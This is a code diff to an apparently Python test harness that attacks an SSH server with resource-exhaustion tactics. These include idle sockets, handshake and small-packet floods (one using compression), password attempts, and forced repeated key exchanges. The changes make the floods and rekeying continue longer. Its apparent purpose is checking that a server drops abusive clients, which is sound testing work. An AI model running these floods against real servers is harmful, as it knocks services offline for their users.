@@ -48,6 +48,8 @@ LONGEST = 300.0
 """Seconds after which it has failed, however busy the machine is."""
 BURST = 200
 """Packets that are sent before the attacker looks whether the line is still there."""
+PERSISTING = 0.5
+"""Seconds from one burst to the next of a flood that goes on: more than a client may send for long."""
 
 
 class AttackedHost(NamedTuple):
@@ -146,9 +148,9 @@ async def enter(target: AttackedHost, window: int = 2**21, **options: Any) -> At
 # --- before login
 
 
-async def silent(target: AttackedHost, count: int, seconds: float) -> Report:
-    """Sockets that say nothing; those that are closed count."""
-    closed = 0
+async def silent(target: AttackedHost, count: int, enough: int, seconds: float = LONGEST) -> Report:
+    """Sockets that say nothing, until so many of them are closed, or for so long."""
+    closed, done = 0, asyncio.Event()
 
     async def one() -> None:
         nonlocal closed
@@ -157,6 +159,8 @@ async def silent(target: AttackedHost, count: int, seconds: float) -> Report:
             while await reader.read(100):
                 pass
             closed += 1
+            if closed == enough:
+                done.set()
             writer.close()
 
     async def arrive() -> list[asyncio.Task[None]]:
@@ -169,8 +173,8 @@ async def silent(target: AttackedHost, count: int, seconds: float) -> Report:
 
     tasks = await arrive()
     begun()
-    await asyncio.wait(tasks, timeout=seconds)
-    return {"sent": count, "closed": closed}
+    await asyncio.wait([asyncio.create_task(done.wait())], timeout=seconds)
+    return {"sent": len(tasks), "closed": closed}
 
 
 def packet(payload: bytes) -> bytes:
@@ -217,7 +221,8 @@ async def handshakes(target: AttackedHost, per_second: int, seconds: float) -> R
     await asyncio.wait(tasks, timeout=1)
     for task in tasks:
         task.cancel()
-    return {"sent": len(tasks), "answered": answered, "refused": refused}
+    spent = round(loop.time() - began, 2)
+    return {"sent": len(tasks), "answered": answered, "refused": refused, "seconds": spent}
 
 
 async def passwords(target: AttackedHost, count: int) -> Report:
@@ -281,31 +286,35 @@ PACKETS = {
 
 
 async def flood(target: AttackedHost, kind: str, count: int, seconds: float, stay: float) -> Report:
-    """Tiny packets of one kind, evenly spread; then `stay` seconds until the host has had enough."""
+    """Tiny packets of one kind, evenly spread; then more of them, until the host has had enough or for `stay`
+    seconds. A host that is slow to read may take the first ones as slowly as it allows.
+    """
     guest = await enter(target, **({"compression_algs": ["zlib@openssh.com"]} if kind == "inflate" else {}))
     send, loop = PACKETS[kind], asyncio.get_running_loop()
     began, sent = loop.time(), 0
     begun()
-    while sent < count and not guest.client.end:
+    while not guest.client.end and loop.time() < began + seconds + stay:
         with suppress(OSError):
-            for _ in range(min(BURST, count - sent)):
+            for _ in range(BURST):
                 send(guest, sent)
                 sent += 1
-        await asyncio.sleep(max(0.0, began + seconds * sent / count - loop.time()))
-    return {"sent": sent, "end": await guest.ended(stay), "seconds": round(loop.time() - began, 2)}
+        pause = began + seconds * sent / count - loop.time() if sent < count else PERSISTING
+        await guest.until(lambda: False, max(0.0, pause))
+    return {"sent": sent, "end": guest.client.end, "seconds": round(loop.time() - began, 2)}
 
 
 async def rekeys(target: AttackedHost, count: int, seconds: float) -> Report:
-    """One key exchange after another."""
+    """One key exchange after another, for so long and until one is done."""
     guest = await enter(target)
     loop = asyncio.get_running_loop()
     began, done = loop.time(), 0
     begun()
-    while done < count and loop.time() < began + seconds and not guest.client.end:
+    while done < count and (loop.time() < began + seconds or not done) and not guest.client.end:
         with suppress(OSError):
             guest.connection._kexinit_sent = True
             guest.connection._send_kexinit()
-        done += await guest.until(lambda: guest.connection._kex_complete, began + seconds - loop.time())
+        left = began + seconds - loop.time() if done else LONGEST
+        done += await guest.until(lambda: guest.connection._kex_complete, left)
     return {"done": done, "end": guest.client.end, "seconds": round(loop.time() - began, 2)}
 
 
